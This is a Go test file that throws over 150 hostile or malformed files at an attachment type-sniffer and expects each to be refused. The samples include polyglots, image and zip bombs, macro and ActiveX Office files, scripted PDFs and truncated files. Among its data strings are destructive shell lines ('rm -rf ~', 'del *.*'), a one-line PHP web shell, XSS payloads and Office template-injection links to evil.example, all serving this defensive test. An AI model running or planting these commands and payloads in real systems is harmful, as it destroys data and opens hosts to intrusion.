package attachment

import (
	"bytes"
	"encoding/binary"
	"fmt"
	"strings"
	"testing"
)

// hostile is a file that must not be let in, and why.
type hostile struct {
	name string
	data []byte
	want flaw
}

// TestHostileFiles offers some hundred and more files that pretend, hide, burst or run.
// (security.md, figure 15)
func TestHostileFiles(t *testing.T) {
	all := hostileFiles(t)
	if len(all) < 150 {
		t.Fatalf("only %d files", len(all))
	}
	for i, h := range all {
		kind, err := Sniff(h.name, h.data, Limits{Unpacked: 8 * mebibyte})
		if err == nil {
			t.Errorf("%d %s was let in as %s", i, h.name, kind)
			continue
		}
		wantFlaw(t, fmt.Sprintf("%d %s", i, h.name), err, h.want)
	}
}

func hostileFiles(t testing.TB) []hostile {
	var all []hostile
	for _, more := range [][]hostile{otherKinds(), activeText(), renamed(t), polyglots(t), hostilePictures(t),
		hostilePDFs(), hostileOffice(t), hostileCompounds(), hostileMedia(), cutShort(t)} {
		all = append(all, more...)
	}
	return all
}

// otherKinds are files of kinds that are not taken, under names that are.
func otherKinds() []hostile {
	pad := strings.Repeat("\x00\x01\x02\x03", 64)
	magics := map[string]string{
		"windows program": "MZ\x90\x00\x03\x00\x00\x00", "linux program": "\x7fELF\x02\x01\x01\x00",
		"mac program": "\xcf\xfa\xed\xfe\x07\x00\x00\x01", "java class": "\xca\xfe\xba\xbe\x00\x00\x00\x34",
		"android program": "dex\n035\x00", "webassembly": "\x00asm\x01\x00\x00\x00",
		"shortcut": "L\x00\x00\x00\x01\x14\x02\x00", "help file": "ITSF\x03\x00\x00\x00",
		"cabinet": "MSCF\x00\x00\x00\x00", "rar": "Rar!\x1a\x07\x01\x00", "7z": "7z\xbc\xaf\x27\x1c\x00\x04",
		"gzip": "\x1f\x8b\x08\x00\x00\x00\x00\x00", "bzip2": "BZh91AY&SY\x00", "xz": "\xfd7zXZ\x00\x00\x04",
		"zstd": "\x28\xb5\x2f\xfd\x24\x00\x01\x00", "gif": "GIF89a\x01\x00\x01\x00\x80\x00\x00",
		"bmp": "BM\x36\x00\x00\x00\x00\x00", "tiff": "II*\x00\x08\x00\x00\x00", "webp": "RIFF\x24\x00\x00\x00WEBPVP8 ",
		"wav": "RIFF\x24\x00\x00\x00WAVEfmt ", "avi": "RIFF\x24\x00\x00\x00AVI LIST", "ogg": "OggS\x00\x02\x00\x00",
		"flac": "fLaC\x00\x00\x00\x22", "midi": "MThd\x00\x00\x00\x06", "flash": "FWS\x0a\x00\x00\x00\x00",
		"matroska": "\x1a\x45\xdf\xa3\x01\x00\x00\x00", "amr": "#!AMR\n\x3c\x00", "icon": "\x00\x00\x01\x00\x01\x00\x10\x10",
		"psd": "8BPS\x00\x01\x00\x00", "sqlite": "SQLite format 3\x00", "registry hive": "regf\x00\x00\x00\x00",
		"disk image": "conectix\x00\x00\x00\x02", "python pickle": "\x80\x04\x95\x00\x00\x00\x00\x00", "nothing but zeros": "\x00\x00\x00\x00",
		"jpeg 2000": "\x00\x00\x00\x0cjP  \r\n\x87\n", "djvu": "AT&TFORM\x00\x00\x00\x00", "wps": "\x01\xfe2\x00\x00\x00",
		"utf-16 text": "\xff\xfeh\x00i\x00", "utf-32 text": "\x00\x00\xfe\xffh", "text with a NUL": "all is well\x00",
		"text with escapes": "all\x1b[2Jwell", "latin-1 text": "caf\xe9 \xe0 la cr\xe8me",
		"blanks only": " \r\n\t ", "half a character": "\xe6\x9d\x8e\xe6\x9d", "c1 controls": "a\u0085b\u009b",
	}
	list := []hostile{{"empty.txt", nil, empty}, {"big.jpg", make([]byte, 20*mebibyte+1), tooBig}}
	for what, magic := range magics {
		content := magic + pad
		if strings.HasPrefix(what, "text") || what == "latin-1 text" || what == "blanks only" || what == "half a character" || what == "c1 controls" {
			content = magic
		}
		for _, ext := range []string{".jpg", ".txt"} {
			list = append(list, hostile{what + ext, []byte(content), wrongType})
		}
	}
	return list
}

// activeText is text that a browser, a shell or an office program would run.
func activeText() []hostile {
	texts := []string{
		"<!DOCTYPE html><p>hello", "<html><body onload=alert(1)>", "  \n<script>alert(1)</script>",
		"hello <script src=//x></script>", "看\n<iframe src=x>", `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>`,
		`<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"/>`, `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "b">]><x/>`,
		"<?php system($_GET[0]);", "<% eval request(0) %>", "#!/bin/sh\nrm -rf ~", "#!/usr/bin/env python3\nprint(1)",
		"@echo off\r\ndel *.*", "{\\rtf1\\ansi {\\object\\objdata 0105}}", "%!PS-Adobe-3.0\n(x) run",
		"MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n<p>", "[InternetShortcut]\r\nURL=file://x",
		"[autorun]\r\nopen=x.exe", "Windows Registry Editor Version 5.00\r\n", "<hta:application id=x>",
		`X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*`, "On Error Resume Next\r\nSet x = CreateObject(\"WScript.Shell\")",
		"\xef\xbb\xbf<html>", "text <object data=x>", "a <embed src=x>", "<xsl:stylesheet>", "see javascript:alert(1)",
	}
	var list []hostile
	for i, s := range texts {
		list = append(list, hostile{fmt.Sprintf("text %d.txt", i), []byte(s), wrongType})
	}
	return list
}

// renamed is harmless text whose name makes a program of it.
func renamed(testing.TB) []hostile {
	var list []hostile
	for _, e := range []string{"exe", "bat", "cmd", "ps1", "vbs", "js", "hta", "html", "svg", "jpg", "pdf", "docx", "sh", "reg", "lnk", "scr", "url", "xml"} {
		list = append(list, hostile{"notes." + e, []byte("start calc\r\n"), wrongType})
	}
	return list
}

// polyglots are files of one kind that are also of another.
func polyglots(t testing.TB) []hostile {
	archive := zipOf(t, part{"evil.exe", "MZ"})
	pdf := letter(t)
	join := func(parts ...[]byte) []byte { return bytes.Join(parts, nil) }
	inComment := func(what string) []byte {
		p := photo(t, 8, 8, 1)
		return join(p[:2], jpegPart(0xfe, what), p[2:])
	}
	list := []hostile{
		{"zip before pdf", join(archive, pdf), wrongType},
		{"docx before junk", join(word(t), []byte("junk")), wrongType},
		{"junk before docx", join([]byte("PK\x03\x04 junk"), word(t)), wrongType},
		{"jpeg with pdf head", inComment("%PDF-1.7 1 0 obj"), wrongType},
		{"jar", zipOf(t, part{"META-INF/MANIFEST.MF", "Main-Class: X"}, part{"X.class", "\xca\xfe\xba\xbe"}), wrongType},
		{"pdf with html before", join([]byte("<html>"), pdf), wrongType},
	}
	for _, s := range samples(t) {
		if s.kind == DOCX || s.kind == XLSX || s.kind == DOC || s.kind == XLS {
			continue
		}
		want := wrongType
		if s.kind == M4A || s.kind == MP4 || s.kind == HEIC {
			want = damaged // what follows is no box
		}
		list = append(list, hostile{string(s.kind) + " and zip", join(s.data, archive), want})
		if s.kind != TXT && s.kind != MP3 && want == wrongType {
			list = append(list, hostile{string(s.kind) + " and rar", join(s.data, []byte("Rar!\x1a\x07\x01\x00")), wrongType})
		}
	}
	return list
}

func hostilePictures(t testing.TB) []hostile {
	sized := func(w, h int) []byte {
		p := jpegOf(t, picture(8, 8))
		at := bytes.Index(p, []byte{0xff, 0xc0})
		binary.BigEndian.PutUint16(p[at+5:], uint16(h))
		binary.BigEndian.PutUint16(p[at+7:], uint16(w))
		return p
	}
	marked := func(marker byte) []byte {
		p := jpegOf(t, picture(8, 8))
		p[bytes.Index(p, []byte{0xff, 0xc0})+1] = marker
		return p
	}
	ihdr := func(w, h int) string { return pngChunk("IHDR", u32be(w)+u32be(h)+"\x08\x02\x00\x00\x00") }
	idat, iend := pngChunk("IDAT", packed("\x00\x00\x00\x00")), pngChunk("IEND", "")
	broken := screenshot(t)
	broken[40] ^= 1
	return []hostile{
		{"jpeg bomb", sized(65535, 65535), bomb}, {"jpeg just too large", sized(10001, 10000), bomb},
		{"jpeg without height", sized(100, 0), damaged}, {"lossless jpeg", marked(0xc3), wrongType},
		{"arithmetic jpeg", marked(0xc9), wrongType}, {"hierarchical jpeg", marked(0xc5), wrongType},
		{"jpeg magic only", []byte("\xff\xd8\xff"), damaged}, {"jpeg magic and html", []byte("\xff\xd8\xff<html><script>"), damaged},
		{"jpeg of comments", bytes.Repeat([]byte("\xff\xd8\xff\xfe\x00\x02"), 10), damaged},
		{"jpeg of many comments", append([]byte("\xff\xd8"), bytes.Repeat([]byte("\xff\xfe\x00\x02"), 10_000)...), bomb},
		{"jpeg of many scans", append(append([]byte("\xff\xd8"), bytes.Repeat([]byte("\xff\xda\x00\x02"), 1000)...), 0xff, 0xd9), bomb},
		{"two frames", append(marked(0xc1)[:bytes.Index(marked(0xc1), []byte{0xff, 0xda})], jpegOf(t, picture(8, 8))[2:]...), damaged},
		{"png bomb", []byte(pngMagic + ihdr(50000, 50000) + idat + iend), bomb},
		{"png of the largest size", []byte(pngMagic + ihdr(0x7fffffff, 0x7fffffff) + idat + iend), bomb},
		{"png thin bomb", []byte(pngMagic + ihdr(1, 0x7fffffff) + idat + iend), bomb},
		{"png without size", []byte(pngMagic + ihdr(0, 10) + idat + iend), damaged},
		{"png without data", []byte(pngMagic + ihdr(1, 1) + iend), damaged},
		{"png with data first", []byte(pngMagic + idat + ihdr(1, 1) + iend), damaged},
		{"png twice sized", []byte(pngMagic + ihdr(1, 1) + idat + ihdr(1, 1) + iend), damaged},
		{"png changed", broken, damaged}, {"png magic only", []byte(pngMagic), damaged},
		{"png of endless chunk", []byte(pngMagic + ihdr(1, 1) + "\xff\xff\xff\xffIDAT"), damaged},
	}
}

func hostilePDFs() []hostile {
	catalog, pages := "<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [] /Count 0 >>"
	with := func(objects ...string) []byte { return pdfOf("", append([]string{catalog, pages}, objects...)...) }
	objStm := func(dict, body string) string {
		return pdfStream("/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode"+dict, packed(body))
	}
	return []hostile{
		{"script.pdf", with("<< /S /JavaScript /JS (app.alert(1)) >>"), active},
		{"spelt.pdf", with("<< /S /J#61vaScript /JS (app.alert(1)) >>"), active},
		{"launch.pdf", with("<< /Type /Action /S /Launch /F (cmd.exe) >>"), active},
		{"nested.pdf", with("<< /A [ << /B << /S/Launch >> >> ] >>"), active},
		{"media.pdf", with("<< /Type /Annot /Subtype /RichMedia >>"), active},
		{"packed.pdf", with(objStm("", "3 0 << /S /JavaScript /JS (x) >>")), active},
		{"malformed.pdf", with("<< /A ) /S /JavaScript /JS (x) >>"), active},
		{"bomb.pdf", with(objStm("", strings.Repeat(" ", pdfUnpacked+1))), bomb},
		{"locked.pdf", pdfOf("/Encrypt 3 0 R", catalog, pages, "<< /Filter /Standard /V 4 >>"), locked},
		{"locked2.pdf", with(pdfStream("/Type /XRef /Encrypt << /Filter /Standard >>", "x")), locked},
		{"head.pdf", []byte("%PDF-1.7\n"), damaged}, {"nothing.pdf", []byte("%PDF-1.7\nstartxref\n0\n%%EOF"), damaged},
		{"text.pdf", []byte("%PDF-1.7\n" + strings.Repeat("hello ", 1000)), damaged},
		{"version.pdf", append([]byte("%PDF-9"), with()[6:]...), damaged},
		{"deep.pdf", []byte("%PDF-1.7\n1 0 obj " + strings.Repeat("[<<", 200_000)), damaged},
		{"open.pdf", []byte("%PDF-1.7\n" + strings.Repeat("(", 500_000)), damaged},
	}
}

func hostileOffice(t testing.TB) []hostile {
	macro := "application/vnd.ms-word.document.macroEnabled.main+xml"
	template := "application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml"
	slides := "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"
	with := func(name, content string) []byte { return wordWith(t, part{name, content}) }
	typed := func(main string) []byte {
		return zipOf(t, append([]part{contentTypesFor(main)}, wordParts(t)[1:]...)...)
	}
	relation := func(kind, target string) []byte {
		return with("word/_rels/x.xml.rels", relsSpace+`<Relationship Id="r1" Type="`+relsOffice+`/`+kind+`" Target="`+target+`" TargetMode="External"/></Relationships>`)
	}
	many := wordParts(t)
	for i := range 3000 {
		many = append(many, part{fmt.Sprintf("word/x%d.xml", i), ""})
	}
	big := strings.Repeat("\x00", 3*mebibyte)
	return []hostile{
		{"a.zip", zipOf(t, part{"readme.txt", "hello"}), wrongType}, {"none.zip", []byte("PK\x05\x06" + strings.Repeat("\x00", 18)), wrongType},
		{"empty.docx", zipOf(t), wrongType}, {"types only.docx", zipOf(t, contentTypesFor(wordMain)), damaged},
		{"other root.docx", zipOf(t, contentTypesFor(wordMain), part{"word/document.xml", "<html/>"}), damaged},
		{"no types.docx", zipOf(t, wordParts(t)[1:]...), wrongType},
		{"broken types.docx", zipOf(t, part{"[Content_Types].xml", "<Types"}, part{"word/document.xml", "<w:document/>"}), damaged},
		{"macro.docm", typed(macro), active}, {"macro.docx", with("word/vbaProject.bin", "x"), active}, {"data.docx", with("word/vbaData.xml", "x"), active},
		{"template.docx", typed(template), wrongType}, {"slides.pptx", typed(slides), wrongType},
		{"controls.docx", with("word/activeX/activeX1.bin", "x"), active}, {"excel4.xlsx", with("xl/macrosheets/sheet1.xml", "x"), active},
		{"program.docx", with("word/embeddings/a.exe", "x"), active}, {"script.docx", with("word/a.JS", "x"), active},
		{"hidden program.docx", with("word/embeddings/a.bin", "MZ\x90\x00"), active}, {"elf.docx", with("word/media/a.png", "\x7fELF"), active},
		{"packager.docx", with("word/embeddings/oleObject1.bin", string(compoundOf(part{"\x01Ole10Native", "MZ"}))), active},
		{"svg.docx", with("word/media/a.svg", "<svg/>"), active}, {"page.docx", with("word/afchunk.mht", "x"), active},
		{"climbs.docx", with("../../evil.xml", "x"), wrongType}, {"absolute.docx", with("/evil.xml", "x"), wrongType},
		{"backslash.docx", with(`..\evil.xml`, "x"), wrongType}, {"drive.docx", with("c:evil.xml", "x"), wrongType},
		{"twice.docx", with("WORD/document.xml", "x"), wrongType},
		{"template injection.docx", relation("attachedTemplate", "https://evil.example/a.dotm"), active},
		{"share injection.docx", relation("attachedTemplate", `\\evil\a.dotm`), active}, {"file share.docx", relation("attachedTemplate", "file://evil/a.dotm"), active},
		{"file share 2.docx", relation("attachedTemplate", `file:///\\evil\a.dotm`), active},
		{"ole link.docx", relation("oleObject", "mhtml:http://evil.example/x!x"), active}, {"frame.docx", relation("frame", "HTTP://evil.example"), active},
		{"sub.docx", relation("subDocument", "ftp://evil.example/x"), active}, {"bad relations.docx", with("word/_rels/y.rels", "<"), damaged},
		{"many parts.docx", zipOf(t, many...), bomb}, {"bomb.docx", wordWith(t, part{"a.xml", big}, part{"b.xml", big}, part{"c.xml", big}), bomb},
		{"lying.docx", patchSizes(word(t)), damaged}, {"locked.docx", patchFlags(word(t)), locked}, {"method.docx", patchMethod(word(t)), wrongType},
		{"changed.docx", patchContent(word(t)), damaged}, {"comment.docx", append(word(t), "PK\x05\x06"...), damaged},
	}
}

// patchDirectory changes something in every entry of a zip's directory.
func patchDirectory(data []byte, change func(entry []byte)) []byte {
	out := bytes.Clone(data)
	for at := 0; ; at += 4 {
		i := bytes.Index(out[at:], []byte("PK\x01\x02"))
		if i < 0 {
			return out
		}
		at += i
		change(out[at:])
	}
}

func patchSizes(data []byte) []byte {
	return patchDirectory(data, func(e []byte) { binary.LittleEndian.PutUint32(e[24:], 10) })
}

func patchFlags(data []byte) []byte { return patchDirectory(data, func(e []byte) { e[8] |= 1 }) }

func patchMethod(data []byte) []byte { return patchDirectory(data, func(e []byte) { e[10] = 12 }) }

func patchContent(data []byte) []byte {
	return patchDirectory(data, func(e []byte) { e[16] ^= 1 }) // checksums
}

func hostileCompounds() []hostile {
	good := oldWord()
	patch := func(at int, v uint32) []byte {
		out := bytes.Clone(good)
		binary.LittleEndian.PutUint32(out[at:], v)
		return out
	}
	return []hostile{
		{"macros.doc", compoundOf(part{"WordDocument", fib(0)}, part{"Macros/", ""}), active},
		{"vba.xls", compoundOf(part{"Workbook", bofRecord + eofRecord}, part{"_VBA_PROJECT_CUR/", ""}), active},
		{"package.doc", compoundOf(part{"WordDocument", fib(0)}, part{"\x01Ole10Native", "x"}), active},
		{"excel4.xls", compoundOf(part{"Workbook", bofRecord + record(0x85, "\x00\x00\x00\x00\x00\x01\x02\x00S1") + eofRecord}), active},
		{"locked.doc", compoundOf(part{"WordDocument", fib(0x0100)}), locked}, {"obfuscated.doc", compoundOf(part{"WordDocument", fib(0x8100)}), locked},
		{"locked.xls", compoundOf(part{"Workbook", bofRecord + record(0x2f, "\x01\x00") + eofRecord}), locked},
		{"locked.docx", compoundOf(part{"EncryptionInfo", "x"}, part{"EncryptedPackage", "x"}), locked},
		{"slides.ppt", compoundOf(part{"PowerPoint Document", "x"}), wrongType}, {"mail.msg", compoundOf(part{"__properties_version1.0", "x"}), wrongType},
		{"installer.msi", compoundOf(part{"\u4840\u3f3f", "x"}), wrongType}, {"nothing.doc", compoundOf(), wrongType},
		{"not word.doc", compoundOf(part{"WordDocument", "hello"}), damaged}, {"not excel.xls", compoundOf(part{"Workbook", "hello!!!"}), damaged},
		{"endless.xls", compoundOf(part{"Workbook", bofRecord}), damaged},
		{"magic only.doc", []byte(cfbMagic), damaged}, {"sector size.doc", patch(30, 40), damaged}, {"directory outside.doc", patch(48, 0xffff), damaged},
		{"circle.doc", patch(512+4, 1), damaged}, {"table outside.doc", patch(76, 0xfffff), damaged}, {"list outside.doc", patch(68, 0xfffff), damaged},
		{"stream outside.doc", patch(1024+dirEntry+116, 0xfffff), damaged},
		{"rtf as.doc", []byte(`{\rtf1 {\object}}`), wrongType},
	}
}

func hostileMedia() []hostile {
	return []hostile{
		{"film.mov", film("qt  ", track("vide")), wrongType}, {"photo.avif", []byte(ftyp("avif", "mif1") + boxOf("meta", u32be(0))), wrongType},
		{"photo.cr3", []byte(ftyp("crx ", "isom")), wrongType}, {"phone.3gp", []byte(ftyp("3gp4", "isom") + boxOf("mdat", "x")), wrongType},
		{"odd brand.mp4", []byte(ftyp("evil", "evil")), wrongType}, {"only head.mp4", []byte(ftyp("isom", "mp42")), damaged},
		{"no tracks.mp4", film("isom"), damaged}, {"only text.mp4", film("isom", track("text")), wrongType},
		{"bomb.heic", heic(60000, 60000), bomb}, {"sizeless.heic", heic(0, 10), damaged},
		{"bare.heic", []byte(ftyp("heic", "mif1") + boxOf("mdat", "x")), damaged},
		{"short size.heic", []byte(ftyp("heic", "mif1") + boxOf("meta", u32be(0), boxOf("iprp", boxOf("ipco", boxOf("ispe", "x"))))), damaged},
		{"long box.mp4", []byte(ftyp("isom", "mp42") + "\x00\x00\x00\x01mdat\xff\xff\xff\xff\xff\xff\xff\xff"), damaged},
		{"tiny box.mp4", []byte(ftyp("isom", "mp42") + "\x00\x00\x00\x04mdat"), damaged},
		{"many boxes.mp4", []byte(ftyp("isom", "mp42") + strings.Repeat(boxOf("free"), 30_000)), damaged},
		{"tag only.mp3", []byte("ID3\x03\x00\x00\x00\x00\x0f\x7f" + strings.Repeat("x", 3000)), damaged},
		{"two frames.mp3", []byte(frames(2)), damaged}, {"sync only.mp3", []byte("\xff\xfb\x90\x00<script>alert(1)</script>"), damaged},
		{"aac.mp3", bytes.Repeat([]byte("\xff\xf1\x50\x80\x02\x1f\xfc\x00"), 50), wrongType},
		{"layer two.mp3", bytes.Repeat([]byte("\xff\xfd\x90\x00"), 500), wrongType},
	}
}

// cutShort are good files that end too early, in the middle and near the end.
func cutShort(t testing.TB) []hostile {
	var list []hostile
	for _, s := range samples(t) {
		if s.kind == TXT || s.kind == MP3 || s.kind == DOC || s.kind == XLS {
			continue // the first two have no end; the others are cut below
		}
		end := len(s.data)
		if s.kind == JPEG {
			end = bytes.LastIndex(s.data, []byte{0xff, 0xd9}) + 2
		}
		if s.kind == PNG {
			end -= len(canary)
		}
		if s.kind == PDF {
			end -= len("startxref\n0000\n%%EOF\n")
		}
		for _, n := range []int{end / 3, end / 2, end - 1} {
			list = append(list, hostile{string(s.kind) + " cut", s.data[:n], damaged})
		}
	}
	for _, data := range [][]byte{oldWord(), oldSheet()} {
		list = append(list, hostile{"compound cut", data[:1500], damaged}, hostile{"compound cut", data[:600], damaged})
	}
	return list
}

// No half of a file, and no file with a byte changed, may do worse than be refused.
func TestDamageNeverPanics(t *testing.T) {
	for _, s := range samples(t) {
		step := max(1, len(s.data)/300)
		for n := 0; n < len(s.data); n += step {
			changed := bytes.Clone(s.data)
			changed[n] ^= 0xff
			for _, data := range [][]byte{s.data[:n], changed} {
				if kind, err := Sniff(s.name, data, Limits{}); err == nil {
					Clean(kind, data)
				}
			}
		}
	}
}
